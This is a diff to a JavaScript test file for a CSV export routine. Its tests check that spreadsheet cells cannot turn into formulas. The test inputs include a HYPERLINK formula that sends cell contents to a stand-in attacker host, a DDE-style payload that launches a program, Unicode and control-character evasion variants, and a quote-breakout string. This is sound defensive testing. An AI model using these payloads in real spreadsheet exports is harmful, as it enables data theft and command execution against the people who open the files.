@@ -10,6 +10,27 @@ it('writes what spreadsheets read: a mark for UTF-8, quotes doubled, commas and 
   ])
 })
 
-it.each(['=1+1', '+919886000011', '-2', '@cmd', '\tx'])('lets nothing become a formula: %s', text => {
-  expect(lines([text])).toEqual([`"'${text}"`])
+it.each([
+  '=1+1',
+  '=HYPERLINK("https://evil.example?"&A1,"see")',
+  '+919886000011',
+  "-2+3+cmd|' /C calc'!A0",
+  '@SUM(A1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(A1)',
+])('lets nothing become a formula: %j', text => {
+  expect(csvOf([['Farida', text]])).toBe(`\uFEFF"Farida","'${text.replaceAll('"', '""')}"\r\n`)
+})
+
+it('lets nobody break out of a cell to begin another with a formula', () => {
+  expect(csvOf([['x","=1+1'], ['x"\r\n=1+1']])).toBe('\uFEFF"x"",""=1+1"\r\n"x""\r\n=1+1"\r\n')
+})
+
+it('leaves names as they are that no spreadsheet takes for a formula', () => {
+  expect(lines(['Anne-Marie', 'R=K', ' Aarav', 'नेहा', ''])).toEqual(['"Anne-Marie","R=K"," Aarav","नेहा",""'])
 })
